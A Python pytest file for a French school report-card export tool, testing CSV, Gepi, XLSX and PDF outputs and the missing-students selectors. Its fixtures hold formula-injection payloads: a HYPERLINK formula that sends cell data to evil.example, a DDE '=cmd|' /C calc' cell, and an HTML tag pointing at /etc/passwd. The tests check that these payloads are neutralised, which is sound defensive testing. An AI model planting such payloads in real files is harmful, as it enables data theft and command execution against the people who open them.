"""Report-card exports: each file read back field by field, hostile cells, the Gepi format,
the missing-students list and the over-limit flags (builders and selectors)."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from classes.models import TermAssessment
from exports import builders as exports
from exports.builders import (
    GEPI_HEADER,
    MISSING_COLUMNS,
    REPORT_COLUMNS,
    MissingLine,
    ReportHeading,
    ReportLine,
    neutralize_cell,
)
from exports.selectors import (
    MissingReason,
    assignment_export,
    class_export,
    class_subjects,
    exportable_statuses,
)
from generation.models import Appreciation
from tests.factories import (
    AppreciationFactory,
    StudentFactory,
    TeacherFactory,
    TeachingAssignmentFactory,
    TermAssessmentFactory,
    shared_subject,
)
from tests.generation.readers import gepi_read, libreoffice_csv, require_tool

# Cells a spreadsheet would run: each must come out inert.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def heading(subject: str | None = "Histoire-Géographie") -> ReportHeading:
    return ReportHeading(
        school="Lycée Victor-Hugo",
        school_class="2nde 3",
        term="2e trimestre",
        school_year="2026-2027",
        subject=subject,
    )


def line(**overrides) -> ReportLine:
    values = {
        "last_name": "Martin",
        "first_name": "Léa",
        "identifier": "martin.lea",
        "subject": "Histoire-Géographie",
        "average": Decimal("12.50"),
        "text": "Un trimestre sérieux ; des efforts à poursuivre à l'oral.",
    }
    values.update(overrides)
    return ReportLine(**values)


def read_csv(content: bytes, *, delimiter: str = ";", bom: bool = True) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf") is bom
    text = content.decode("utf-8-sig" if bom else "utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_inert(value: str) -> None:
    assert not value.startswith(DANGEROUS_STARTS), repr(value)


# --- neutralize_cell -----------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*HOSTILE, "=", "+", "-", "@", "\uff1dSUM(A1)"])
def test_neutralize_cell_prefixes_every_formula_start(value):
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["", "Martin", "Élève sérieux.", " =1+1", "1+1", "a=b", "'déjà", "Jean-Pierre"]
)
def test_neutralize_cell_leaves_other_texts_alone(value):
    assert neutralize_cell(value) == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [(Decimal("12.50"), "12,5"), (Decimal("14.00"), "14"), (Decimal("20"), "20"), (None, "")],
)
def test_format_average_fr(value, expected):
    assert exports.format_average_fr(value) == expected


# --- CSV for French spreadsheets -----------------------------------------------------------------


def test_report_csv_reads_back_field_by_field():
    content = exports.report_csv(
        heading=heading(),
        lines=[line(), line(last_name="Durand", first_name="Noé", identifier="", average=None)],
    )
    rows = read_csv(content)
    assert rows[0] == list(REPORT_COLUMNS)
    assert rows[1] == [
        "Martin",
        "Léa",
        "martin.lea",
        "2nde 3",
        "Histoire-Géographie",
        "2e trimestre",
        "12,5",
        "Un trimestre sérieux ; des efforts à poursuivre à l'oral.",
    ]
    assert rows[2][:3] == ["Durand", "Noé", ""]
    assert rows[2][6] == ""
    assert len(rows) == 3
    assert b"\r\n" in content  # Excel's line ends


def test_report_csv_neutralises_hostile_names_and_texts():
    lines = [
        line(last_name=value, first_name=value, identifier=value, text=value) for value in HOSTILE
    ]
    rows = read_csv(exports.report_csv(heading=heading(), lines=lines))[1:]
    assert len(rows) == len(HOSTILE)
    for value, row in zip(HOSTILE, rows, strict=True):
        for index in (0, 1, 2, 7):
            assert row[index] == "'" + value
            assert_inert(row[index])


def test_report_csv_guards_only_the_texts_a_spreadsheet_would_run():
    guarded = ["- Ensemble sérieux.", "+ de travail.", "= stable.", "@ retenir.", "\tx", "\rx"]
    untouched = [
        "Ensemble sérieux - à poursuivre.",
        'Chemin C:\\"dossier" et "citation".',
        "Fin par barre oblique \\",
        "Œuvre, élève, « guillemets ».",
        " =1+1",
        "'déjà une apostrophe",
    ]
    lines = [line(text=text) for text in guarded + untouched]
    rows = read_csv(exports.report_csv(heading=heading(), lines=lines))[1:]
    assert [row[7] for row in rows] == ["'" + t for t in guarded] + untouched


def test_report_csv_neutralises_hostile_class_and_subject_names():
    hostile = ReportHeading(
        school="=cmd", school_class="=cmd|' /C calc'!A0", term="2e trimestre", school_year="x"
    )
    rows = read_csv(exports.report_csv(heading=hostile, lines=[line(subject="@SUM(1)")]))
    assert rows[1][3] == "'=cmd|' /C calc'!A0"
    assert rows[1][4] == "'@SUM(1)"


# --- Gepi ----------------------------------------------------------------------------------------

# Texts that broke or altered Gepi's import: a spreadsheet guard stored on the report card,
# PHP's `\\` escape inside quotes, `;`, a trailing backslash (Gepi trims the text).
GEPI_TRICKY = [
    "- Ensemble sérieux, des efforts à poursuivre.",
    "+ de participation attendue.",
    "= résultats stables.",
    "@ retenir : le travail paie.",
    'Chemin C:\\"dossier" puis "rien".',
    '"Bravo" : un trimestre réussi.',
    '"Bravo" C:\\"dossier"',
    '"Citation finale\\"',
    "Se termine par une barre oblique inverse \\",
    '"Ouvre" et se termine par \\',
    "Deux ; points ;; et |fin| ;",
    '"" ; \\\\ ; "\\" ;',
    "Œuvre, élève, garçon, Noël, « guillemets » et apostrophe’s.",
    "Une ligne\nune autre ligne",
    "Très bien." * 150,  # 1 500 characters
]


def test_gepi_file_reads_back_with_its_header_and_marks():
    content = exports.report_gepi(
        lines=[
            line(),
            line(identifier="durand.noe", average=None, text="Bon travail."),
            line(identifier="petit.ana", average=Decimal("14.00"), text="Très bien."),
        ]
    )
    rows = read_csv(content, bom=False)
    assert rows[0] == list(GEPI_HEADER) == ["IDENTIFIANT", "NOTE", "Appréciation"]
    assert rows[1] == [
        "martin.lea",
        "12,5",
        "Un trimestre sérieux |POINT-VIRGULE| des efforts à poursuivre à l'oral.",
    ]
    # No average: an empty NOTE leaves Gepi's mark alone (`-` would store 0 with status `-`).
    assert rows[2] == ["durand.noe", "", "Bon travail."]
    assert rows[3] == ["petit.ana", "14", "Très bien."]
    assert len(rows) == 4


def test_gepi_encodes_every_semicolon_so_each_line_has_three_fields():
    text = 'Deux ; points ;; "citation" ; fin;'
    content = exports.report_gepi(lines=[line(text=text)])
    raw_lines = content.decode("utf-8").splitlines()
    # No `;` left in the text: splitting on `;` gives exactly the three columns.
    assert raw_lines[1].split(";")[0] == "martin.lea"
    assert len(raw_lines[1].split(";")) == 3
    row = read_csv(content, bom=False)[1]
    assert row[2] == text.replace(";", "|POINT-VIRGULE|")
    # What Gepi does on import gives the text back.
    assert row[2].replace("|POINT-VIRGULE|", ";") == text


@pytest.mark.parametrize("text", [*HOSTILE, *GEPI_TRICKY[:4]])
def test_gepi_writes_the_text_as_validated_without_a_spreadsheet_guard(text):
    """Gepi is a database import: a guard `'` would be stored and printed on the report card."""
    content = exports.report_gepi(lines=[line(text=text.strip())])
    assert b"'" + text.strip().encode() not in content
    raw = content.decode("utf-8").split("\r\n")[1]
    assert raw.startswith("martin.lea;12,5;")


def test_gepi_file_read_by_php_fgetcsv_as_gepi_does_gives_every_text_back(tmp_path):
    lines = [
        line(identifier=f"eleve{index}", average=average, text=text)
        for index, (text, average) in enumerate(
            (text, [Decimal("12.50"), None, Decimal("0"), Decimal("20")][index % 4])
            for index, text in enumerate(GEPI_TRICKY)
        )
    ]
    rows = gepi_read(exports.report_gepi(lines=lines), tmp_path)
    assert len(rows) == len(lines)
    for item, row in zip(lines, rows, strict=True):
        assert row == [item.identifier, exports.format_average_fr(item.average), item.text], row


def test_gepi_file_read_by_php_with_random_texts(tmp_path):
    """Every text over an alphabet of PHP's special characters comes back unchanged."""
    import random

    alphabet = ['"', "\\", ";", " ", "é", "a", "-", "|", "'"]
    chooser = random.Random(20261129)
    texts = {
        "".join(chooser.choice(alphabet) for _ in range(chooser.randint(1, 8))) for _ in range(3000)
    }
    texts = sorted({" ".join(text.split()) for text in texts} - {""})
    lines = [line(identifier=f"e{index}", text=text) for index, text in enumerate(texts)]
    rows = gepi_read(exports.report_gepi(lines=lines), tmp_path)
    assert [row[2] for row in rows] == texts


def test_gepi_lines_php_would_cut_are_refused(tmp_path):
    """fgetcsv($fp, 8000, ";") cuts a line of 7 999 bytes or more in two."""
    longest = line(identifier="e1", average=None, text="x" * (exports.GEPI_LINE_MAX_BYTES - 4))
    assert exports.gepi_line_problem(longest) is None
    assert gepi_read(exports.report_gepi(lines=[longest]), tmp_path)[0][2] == longest.text
    too_long = line(identifier="e1", average=None, text="x" * (exports.GEPI_LINE_MAX_BYTES - 3))
    assert "trop longue" in exports.gepi_line_problem(too_long)
    with pytest.raises(ValueError, match="Gepi"):
        exports.report_gepi(lines=[too_long])


def test_gepi_leaves_apart_a_text_holding_its_semicolon_code():
    """Gepi would turn a literal `|POINT-VIRGULE|` into `;`: not the validated text."""
    problem = exports.gepi_line_problem(line(text="Code |POINT-VIRGULE| tel quel."))
    assert "POINT-VIRGULE" in problem


@pytest.mark.parametrize("identifier", ["", "  ", "martin lea", "a;b", 'a"b', "a\\b", "\u202ea"])
def test_gepi_refuses_a_line_without_a_usable_login(identifier):
    assert exports.gepi_line_problem(line(identifier=identifier)) is not None
    with pytest.raises(ValueError, match="Gepi"):
        exports.report_gepi(lines=[line(identifier=identifier)])


def test_gepi_writes_the_login_as_it_is():
    content = exports.report_gepi(lines=[line(identifier="-martin.l")])
    assert content.decode("utf-8").split("\r\n")[1].startswith("-martin.l;")


# --- XLSX ----------------------------------------------------------------------------------------


def test_xlsx_reads_back_field_by_field_with_the_missing_sheet():
    content = exports.report_xlsx(
        heading=heading(),
        lines=[line(), line(last_name="Durand", average=None, text="Bien.")],
        missing=[MissingLine("Petit", "Ana", "Histoire-Géographie", "Pas encore d'appréciation")],
    )
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Appréciations", "À compléter"]
    sheet = workbook["Appréciations"]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == list(REPORT_COLUMNS)
    assert rows[1] == [
        "Martin",
        "Léa",
        "martin.lea",
        "2nde 3",
        "Histoire-Géographie",
        "2e trimestre",
        12.5,
        "Un trimestre sérieux ; des efforts à poursuivre à l'oral.",
    ]
    assert rows[2][0] == "Durand" and rows[2][6] is None and rows[2][7] == "Bien."
    assert sheet.cell(row=2, column=7).data_type == "n"
    missing = [list(row) for row in workbook["À compléter"].iter_rows(values_only=True)]
    assert missing == [
        list(MISSING_COLUMNS),
        ["Petit", "Ana", "Histoire-Géographie", "Pas encore d'appréciation"],
    ]
    assert "2nde 3" in workbook.properties.title


def test_xlsx_without_missing_students_has_one_sheet():
    workbook = load_workbook(io.BytesIO(exports.report_xlsx(heading=heading(), lines=[line()])))
    assert workbook.sheetnames == ["Appréciations"]


def test_xlsx_types_every_text_as_a_string_so_none_needs_a_visible_guard():
    """A string cell is never a formula: the text is kept as validated, without the `'` that
    LibreOffice would show (`'- Ensemble sérieux…`)."""
    values = [*HOSTILE, *GEPI_TRICKY[:4]]
    lines = [line(last_name=value, first_name=value, text=value) for value in values]
    hostile_heading = ReportHeading(
        school="=cmd", school_class="=2nde 3", term="-1", school_year="x", subject="@Maths"
    )
    content = exports.report_xlsx(heading=hostile_heading, lines=lines)
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.active
    for index, value in enumerate(values, start=2):
        for column in (1, 2, 8):
            cell = sheet.cell(row=index, column=column)
            assert cell.data_type == "s"  # a string, never a formula ("f")
            # Without lxml, openpyxl writes a carriage return raw and XML reads it back as a
            # line feed (validated texts hold neither).
            assert cell.value.replace("\r", "\n") == value.replace("\r", "\n")
        assert sheet.cell(row=index, column=4).value == "=2nde 3"
        assert sheet.cell(row=index, column=6).value == "-1"
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)
    # The XML itself holds no formula element.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_read_by_libreoffice_gives_the_texts_back_and_evaluates_nothing(tmp_path):
    texts = [
        "- Ensemble sérieux, des efforts à poursuivre.",
        "=1+1",
        "+2+3",
        "@SUM(A1:A2)",
        '=HYPERLINK("http://evil.example/","Cliquez")',
        'Chemin C:\\"dossier" ; fin.',
        "Œuvre, élève, « guillemets ».",
    ]
    lines = [line(identifier=f"e{i}", text=text) for i, text in enumerate(texts)]
    content = exports.report_xlsx(heading=heading(), lines=lines)
    rows = list(csv.reader(io.StringIO(libreoffice_csv(content, tmp_path)), delimiter=";"))
    assert rows[0] == list(REPORT_COLUMNS)
    assert [row[7] for row in rows[1:]] == texts  # "=1+1" would read "2" if evaluated
    assert [row[6] for row in rows[1:]] == ["12,5"] * len(texts) or [
        row[6] for row in rows[1:]
    ] == ["12.5"] * len(texts)


def test_xlsx_drops_control_characters_instead_of_failing():
    content = exports.report_xlsx(heading=heading(), lines=[line(last_name="Mar\x00tin\x1b")])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "Martin"


# --- PDF -----------------------------------------------------------------------------------------


def pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(content))
    return "\n".join(page.extract_text() for page in reader.pages)


def test_pdf_has_school_class_subject_term_students_and_texts():
    content = exports.report_pdf(
        heading=heading(),
        lines=[line(), line(last_name="Durand", first_name="Noé", text="Bonne participation.")],
        missing=[MissingLine("Petit", "Ana", "Histoire-Géographie", "Brouillon à relire")],
        generated_on=date(2027, 2, 20),
    )
    text = " ".join(pdf_text(content).split())
    for expected in (
        "Lycée Victor-Hugo",
        "2nde 3",
        "Histoire-Géographie",
        "2e trimestre",
        "2026-2027",
        "Martin Léa",
        "Durand Noé",
        "Bonne participation.",
        "des efforts à poursuivre",
        "Appréciations manquantes (1)",
        "Petit Ana",
        "Brouillon à relire",
        "20/02/2027",
    ):
        assert expected in text, expected


def report_page_heading(**overrides) -> ReportHeading:
    values = {
        "school": "Lycée Victor-Hugo",
        "school_class": "2nde 3",
        "term": "2e trimestre",
        "school_year": "2026-2027",
        "subject": "Histoire-Géographie",
        "teacher": "Claire Fontaine",
    }
    values.update(overrides)
    return ReportHeading(**values)


def test_pdf_is_the_subjects_page_for_the_class_council():
    """School, class, subject, teacher, term and year; each student's average and text, in
    the order given; page numbers in the footer."""
    lines = [
        line(last_name="Zidane", first_name="Yanis", average=Decimal("12.50"), text="Texte Z."),
        line(last_name="Abel", first_name="Ana", average=Decimal("8.00"), text="Texte A."),
        line(last_name="Morel", first_name="Léo", average=None, text="Texte M."),
    ]
    content = exports.report_pdf(
        heading=report_page_heading(), lines=lines, generated_on=date(2027, 2, 20)
    )
    text = " ".join(pdf_text(content).split())
    for expected in (
        "Lycée Victor-Hugo",
        "2nde 3",
        "Histoire-Géographie",
        "Claire Fontaine",
        "2e trimestre",
        "2026-2027",
        "Page 1 / 1",
    ):
        assert expected in text, expected
    # Each student's average in French format, beside their name, in the selectors' order.
    assert text.index("Zidane Yanis 12,5 Texte Z.") < text.index("Abel Ana 8 Texte A.")
    assert text.index("Abel Ana 8 Texte A.") < text.index("Morel Léo Texte M.")


def test_pdf_of_the_whole_class_gives_each_subjects_average_and_teacher():
    lines = [
        line(subject="Anglais", average=Decimal("14.25"), teacher="John Smith", student_key=1),
        line(subject="Histoire-Géographie", average=None, teacher="C. Fontaine", student_key=1),
    ]
    content = exports.report_pdf(
        heading=report_page_heading(subject=None, teacher=""),
        lines=lines,
        generated_on=date(2027, 2, 20),
    )
    text = " ".join(pdf_text(content).split())
    assert "Anglais John Smith 14,25" in text
    assert "Histoire-Géographie C. Fontaine" in text


LONG_WORD = "Anticonstitutionnellement" * 6  # 150 characters, no space


def _render_boxes_within_the_page(document) -> None:
    from weasyprint.formatting_structure import boxes

    for page in document.pages:
        for box in page._page_box.descendants():
            if isinstance(box, boxes.TextBox):
                assert box.position_x >= 0, box.text[:30]
                assert box.position_x + box.width <= page.width + 0.01, box.text[:30]


@pytest.mark.parametrize("subject", ["Histoire-Géographie", None])
def test_pdf_wraps_a_150_character_word_inside_the_page(subject, tmp_path):
    lines = [
        line(
            last_name=LONG_WORD, first_name="Léa", subject=LONG_WORD, text=f"Début {LONG_WORD} fin."
        )
    ]
    kwargs = {
        "heading": report_page_heading(subject=subject, school=LONG_WORD, teacher=LONG_WORD),
        "lines": lines,
        "missing": [MissingLine(LONG_WORD, "Ana", LONG_WORD, "Brouillon à relire")],
        "generated_on": date(2027, 2, 20),
    }
    # What WeasyPrint laid out: every line of text starts and ends inside the page.
    _render_boxes_within_the_page(exports.report_pdf_document(**kwargs))
    # What a PDF reader finds: every word's box inside the page (poppler's pdftotext).
    pdf = tmp_path / "page.pdf"
    pdf.write_bytes(exports.report_pdf(**kwargs))
    pdftotext = require_tool("pdftotext")
    html = subprocess.run(
        [pdftotext, "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    width = float(re.search(r'<page width="([0-9.]+)"', html).group(1))
    words = re.findall(r'<word xMin="([0-9.-]+)" yMin="[^"]*" xMax="([0-9.-]+)"', html)
    assert words
    assert all(float(x_min) >= 0 and float(x_max) <= width for x_min, x_max in words)
    joined = " ".join(pdf_text(pdf.read_bytes()).split())
    assert "Début" in joined and "fin." in joined


def test_pdf_of_the_whole_class_groups_subjects_under_each_student():
    lines = [
        line(subject="Anglais", text="Good work.", student_key=1),
        line(subject="Histoire-Géographie", text="Bon travail.", student_key=1),
        line(last_name="Durand", first_name="Noé", subject="Anglais", text="Well.", student_key=2),
    ]
    content = exports.report_pdf(
        heading=heading(subject=None), lines=lines, generated_on=date(2027, 2, 20)
    )
    text = " ".join(pdf_text(content).split())
    assert "Toutes disciplines" in text
    assert text.count("Martin Léa") == 1
    assert text.index("Martin Léa") < text.index("Good work.") < text.index("Bon travail.")
    assert text.index("Bon travail.") < text.index("Durand Noé") < text.index("Well.")


def test_pdf_escapes_markup_in_names_and_texts():
    content = exports.report_pdf(
        heading=heading(),
        lines=[line(last_name="<b>Martin</b>", text='<img src="file:///etc/passwd">Texte')],
        generated_on=date(2027, 2, 20),
    )
    text = pdf_text(content)
    assert "<b>Martin</b>" in text
    assert '<img src="file:///etc/passwd">Texte' in " ".join(text.split())


# --- Copy-all ------------------------------------------------------------------------------------


def test_copy_all_text_keeps_one_line_per_student():
    assert exports.copy_all_text(["Bien.", "", "Très\nbien.", ""]) == "Bien.\n\nTrès bien.\n"


# --- Selectors: what is exportable, and the missing students -------------------------------------


def test_exportable_statuses_follow_the_school_setting(world):
    assert set(exportable_statuses(school=world.school)) == {"validated", "approved"}
    world.school.requires_head_approval = True
    assert exportable_statuses(school=world.school) == ("approved",)


def _students(world):
    return list(world.school_class.students.order_by("last_name", "first_name"))


def test_assignment_export_lists_every_missing_student_with_the_reason(world):
    extra = [StudentFactory(school_class=world.school_class, last_name=f"Zed{i}") for i in range(3)]
    s = _students(world)  # Nom00, Nom01, Nom02, Zed0, Zed1, Zed2
    subject, term = world.assignment.subject, world.term
    AppreciationFactory(
        student=s[0], subject=subject, term=term, status=Appreciation.Status.VALIDATED
    )
    AppreciationFactory(
        student=s[1], subject=subject, term=term, status=Appreciation.Status.APPROVED
    )
    AppreciationFactory(
        student=s[2], subject=subject, term=term, status=Appreciation.Status.GENERATED
    )
    AppreciationFactory(
        student=s[3], subject=subject, term=term, status=Appreciation.Status.RETURNED
    )
    AppreciationFactory(
        student=s[4], subject=subject, term=term, status=Appreciation.Status.VALIDATED, text="  "
    )
    # Another term and another subject do not count.
    AppreciationFactory(student=extra[2], subject=subject, term=world.terms[0])
    AppreciationFactory(student=extra[2], subject=shared_subject("HGGSP"), term=term)

    export = assignment_export(assignment=world.assignment, term=term)

    assert [e.student for e in export.entries] == [s[0], s[1]]
    assert [(m.student, m.reason) for m in export.missing] == [
        (s[2], MissingReason.TO_REVIEW),
        (s[3], MissingReason.RETURNED),
        (s[4], MissingReason.EMPTY),
        (s[5], MissingReason.NONE),
    ]
    assert export.expected_count == 6 == len(export.entries) + len(export.missing)
    assert export.missing[0].reason_label == "Brouillon à relire, pas encore validé"


def test_when_approval_is_required_validated_ones_are_missing(world):
    world.school.requires_head_approval = True
    world.school.save()
    s = _students(world)
    subject, term = world.assignment.subject, world.term
    AppreciationFactory(
        student=s[0], subject=subject, term=term, status=Appreciation.Status.VALIDATED
    )
    AppreciationFactory(
        student=s[1], subject=subject, term=term, status=Appreciation.Status.APPROVED
    )

    export = assignment_export(assignment=world.assignment, term=term)

    assert [e.student for e in export.entries] == [s[1]]
    assert [(m.student, m.reason) for m in export.missing] == [
        (s[0], MissingReason.NOT_APPROVED),
        (s[2], MissingReason.NONE),
    ]
    assert export.requires_approval


def test_assignment_export_lines_carry_the_term_average_and_identifier(world):
    s = _students(world)
    subject, term = world.assignment.subject, world.term
    TermAssessmentFactory(student=s[0], subject=subject, term=term, average=Decimal("15.25"))
    s[0].external_id = " 123456789AB "
    s[0].gepi_login = " martin.lea "
    s[0].save()
    s[1].external_id = "987654321CD"  # an INE is no Gepi login
    s[1].save()
    AppreciationFactory(student=s[0], subject=subject, term=term, text="Excellent trimestre.")
    AppreciationFactory(student=s[1], subject=subject, term=term, text="Bon trimestre.")

    export = assignment_export(assignment=world.assignment, term=term)
    lines = export.lines()

    assert lines[0].average == Decimal("15.25")
    assert lines[0].identifier == "123456789AB"
    assert lines[0].text == "Excellent trimestre."
    assert lines[0].subject == subject.name
    assert lines[1].average is None  # no input for term 2
    # Gepi matches its login: the student without one is listed apart, not silently dropped.
    assert [(e.student, reason) for e, reason in export.gepi_excluded] == [
        (s[1], "pas de login Gepi")
    ]
    assert [x.identifier for x in export.lines(gepi=True)] == ["martin.lea"]
    rows = read_csv(exports.report_gepi(lines=export.lines(gepi=True)), bom=False)
    assert rows[1] == ["martin.lea", "15,25", "Excellent trimestre."]


def test_gepi_export_lists_apart_a_text_too_long_for_gepis_reader(world):
    s = _students(world)
    subject, term = world.assignment.subject, world.term
    for index, student in enumerate(s[:2]):
        student.gepi_login = f"eleve{index}"
        student.save()
    AppreciationFactory(student=s[0], subject=subject, term=term, text="Bien.")
    AppreciationFactory(student=s[1], subject=subject, term=term, text=";" * 600)
    export = assignment_export(assignment=world.assignment, term=term)
    assert [e.student for e, _ in export.gepi_excluded] == [s[1]]
    assert "trop longue" in export.gepi_excluded[0][1]
    assert [x.identifier for x in export.lines(gepi=True)] == ["eleve0"]


def test_over_limit_appreciations_are_flagged(world):
    world.school.appreciation_max_chars = 20
    world.school.save()
    s = _students(world)
    subject, term = world.assignment.subject, world.term
    AppreciationFactory(student=s[0], subject=subject, term=term, text="x" * 20)
    AppreciationFactory(student=s[1], subject=subject, term=term, text="y" * 21)

    export = assignment_export(assignment=world.assignment, term=term)

    assert [e.student for e in export.over_limit] == [s[1]]
    assert export.over_limit[0].char_count == 21
    assert export.max_chars == 20


def test_class_export_covers_every_subject_of_the_class(world):
    english = shared_subject("HGGSP")
    TeachingAssignmentFactory(
        teacher=TeacherFactory(school=world.school),
        school_class=world.school_class,
        subject=english,
    )
    # A second teacher of the same subject does not duplicate it.
    TeachingAssignmentFactory(
        teacher=TeacherFactory(school=world.school),
        school_class=world.school_class,
        subject=world.assignment.subject,
    )
    s = _students(world)
    term = world.term
    AppreciationFactory(student=s[0], subject=world.assignment.subject, term=term, text="HG zéro.")
    AppreciationFactory(student=s[0], subject=english, term=term, text="HGGSP zéro.")
    AppreciationFactory(student=s[2], subject=english, term=term, text="HGGSP deux.")

    assert class_subjects(school_class=world.school_class) == [world.assignment.subject, english]
    export = class_export(school_class=world.school_class, term=term)

    assert export.subject is None
    assert [(e.student, e.subject) for e in export.entries] == [
        (s[0], world.assignment.subject),
        (s[0], english),
        (s[2], english),
    ]
    assert [(m.student, m.subject, m.reason) for m in export.missing] == [
        (s[1], world.assignment.subject, MissingReason.NONE),
        (s[1], english, MissingReason.NONE),
        (s[2], world.assignment.subject, MissingReason.NONE),
    ]
    blocks = export.copy_blocks()
    assert [b.subject for b in blocks] == [world.assignment.subject, english]
    assert blocks[1].texts == ["HGGSP zéro.", "", "HGGSP deux."]
    assert blocks[1].all_text == "HGGSP zéro.\n\nHGGSP deux."
    assert export.heading().subject is None
    assert export.heading().title.endswith("Toutes disciplines · 2e trimestre 2026-2027")


def test_export_queries_do_not_grow_with_the_class(world, django_assert_max_num_queries):
    subject, term = world.assignment.subject, world.term
    for index in range(40):
        student = StudentFactory(school_class=world.school_class, last_name=f"Extra{index:02d}")
        AppreciationFactory(student=student, subject=subject, term=term)
        TermAssessment.objects.create(student=student, subject=subject, term=term, average=10)
    with django_assert_max_num_queries(4):
        export = assignment_export(assignment=world.assignment, term=term)
        export.lines()
        export.missing_lines()
    assert len(export.entries) == 40
